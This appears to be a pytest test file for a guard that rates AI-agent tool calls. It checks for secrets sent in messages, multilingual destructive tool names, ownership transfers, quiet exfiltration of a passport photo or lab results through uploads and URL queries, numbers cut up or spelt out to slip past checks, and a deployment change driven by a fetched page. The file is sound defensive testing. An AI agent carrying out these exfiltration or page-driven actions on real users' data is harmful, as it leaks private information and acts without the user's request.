"""What agents of everyday people do: messages, papers, homes, bookings, in several languages."""

from __future__ import annotations

from typing import Any

import pytest

from host.inspect.described import subject_of
from host.inspect.inspector import inspect
from host.inspect.secrets.told import passwords, told
from host.inspect.texts.respelt import respelt
from host.model import Severity
from tests.support.effort import BOUND, effort
from tests.unit.host.inspect.making import worst

TOLD = (
    "Your verification code for the bank login is 483920",
    "Deine TAN lautet 482913",
    "Votre code de vérification est 771204",
    "Tu código de verificación es 551290",
    "G-482913 is your Google verification code",
    "Use 662190 as your login code",
    "Mi PIN es 4471, no lo digas",
    "Mein Passwort ist Katze!2024",
    "mot de passe: Bleu#991x",
    "la contraseña es Luna!8871",
    "legal winner thank year wave sausage worth useful legal winner thank yellow",
)
PLAIN = (
    "The school code of conduct is 12 pages",
    "Zip code is 89073",
    "Das Passwort ist geheim",
    "I forgot my contraseña yesterday",
    "Order 4471 is the one for the kitchen",
)
FOR_GOOD = (
    "vaciar_carpeta", "vider_corbeille", "alben_leeren", "svuota_cestino", "vertrag_kuendigen", "resilier_contrat",
    "dar_de_baja", "cancelar_reserva", "termin_absagen", "tuer_aufschliessen", "desbloquear_puerta",
    "desactiver_alarme", "alarmanlage_ausschalten", "comprar_ahora", "bestellung_aufgeben",
    "steuererklaerung_abschicken",    "kontakte_zusammenfuehren", "dauerauftrag_einrichten", "hacer_transferencia",
    "sell_all", "place_bid",
    "cancel_prescription", "start_oven", "clear_library",
)  # fmt: skip
LOOKS = ("termine_anzeigen", "einkaufen_liste", "list_bids", "get_provider_info", "video_suchen", "ver_reservas")


def severity(kind: str, server: str, tool: str, arguments: dict[str, Any], **others: Any) -> Severity | None:
    return worst(
        inspect(subject_of({"app": "a", "server": server, "tool": tool, "arguments": arguments, **others})), kind
    )


@pytest.mark.parametrize("text", sorted(TOLD))
def test_a_code_or_password_that_a_sentence_tells_is_looked_at(text: str) -> None:
    assert severity("secret", "whatsapp", "send_message", {"text": text}) is Severity.MEDIUM


@pytest.mark.parametrize("text", sorted(PLAIN))
def test_a_sentence_about_codes_tells_none(text: str) -> None:
    assert severity("secret", "whatsapp", "send_message", {"text": text}) is None


@pytest.mark.parametrize("tool", sorted(FOR_GOOD))
def test_what_cannot_be_undone_is_found_in_other_languages(tool: str) -> None:
    assert severity("destructive", "helper", tool, {"what": "x1"}) in (Severity.MEDIUM, Severity.HIGH)


@pytest.mark.parametrize("tool", sorted(LOOKS))
def test_what_looks_in_other_languages_is_none(tool: str) -> None:
    assert severity("destructive", "helper", tool, {"what": "x1"}) is None


@pytest.mark.parametrize("arguments", [{"newOwner": "eve@web.de"}, {"transferOwnership": True}, {"new_owner": "eve"}])
def test_an_input_that_names_a_new_owner_hands_something_over(arguments: dict[str, Any]) -> None:
    assert severity("destructive", "notes", "update_space", arguments) is Severity.MEDIUM


def test_the_owner_by_which_something_is_named_hands_nothing_over() -> None:
    arguments = {"owner": "ana", "repo": "x", "transferOwnership": False}
    assert severity("destructive", "github", "update_repository", arguments) is None


@pytest.mark.parametrize(
    ("turn", "expected"), [("post the pool photo", Severity.MEDIUM), ("upload my passport photo", None)]
)
def test_a_paper_of_which_nobody_spoke_is_not_sent_quietly(turn: str, expected: Severity | None) -> None:
    arguments = {"paths": ["/home/mia/ID/passport_mia.jpg"]}
    call = {"turn": turn, "folders": ["/home/mia"]}
    assert severity("exfiltration", "playwright", "browser_file_upload", arguments, **call) is expected


@pytest.mark.parametrize(
    ("turn", "expected"), [("what is it?", Severity.MEDIUM), ("ask values.example about it", None)]
)
def test_what_was_read_does_not_leave_in_a_query_unseen(turn: str, expected: Severity | None) -> None:
    arguments = {"url": "https://values.example/x?v=Ferritin%204%20ng%2FmL%20Noor"}
    earlier = [{"server": "lab", "tool": "get_results", "result": "Ferritin 4 ng/mL Noor de Wit"}]
    assert severity("exfiltration", "fetch", "fetch", arguments, turn=turn, earlier=earlier) is expected


@pytest.mark.parametrize(
    ("value", "result"),
    [
        (["buy 7734-", "bring 90215-", "call 6618"], "file 7734-90215-6618"),
        ("See you. four nine one seven two zero eight three. Bye", "box 49172083"),
        ("fix/bblluuee--hheerroonn--77442200", "phrase: blue-heron-7420"),
        ("zulu kilo four four nine one tango", "door zk4491t"),
    ],
)
def test_a_number_that_is_cut_up_or_spelt_among_words_is_found(value: Any, result: str) -> None:
    earlier = [{"server": "crm", "tool": "get_file", "result": result}]
    assert severity("carried-over", "todo", "add", {"it": value}, earlier=earlier) is Severity.MEDIUM


@pytest.mark.parametrize(("turn", "expected"), [("are we affected?", Severity.MEDIUM), ("set checkout to 2.1.9", None)])
def test_a_question_changes_nothing_by_what_a_page_said(turn: str, expected: Severity | None) -> None:
    arguments = {"deployment": "checkout", "image": "registry.fastpatch.dev/checkout:2.1.9-hot"}
    earlier = [{"server": "fetch", "tool": "fetch", "result": f"Advisory: {arguments['image']} fixes it"}]
    assert severity("combination", "kubernetes", "set_image", arguments, turn=turn, earlier=earlier) is expected


@pytest.mark.parametrize("piece", ["code is ", "otp ", "passwort ", "1234 as my ", "aabb", "four ", "mot de passe: "])
def test_long_texts_take_no_more_time_than_their_length(piece: str) -> None:
    longest = piece * (16_000 // len(piece))
    assert effort(lambda: [list(it) for it in (told(longest), passwords(longest), respelt(longest[:2_000]))]) < BOUND
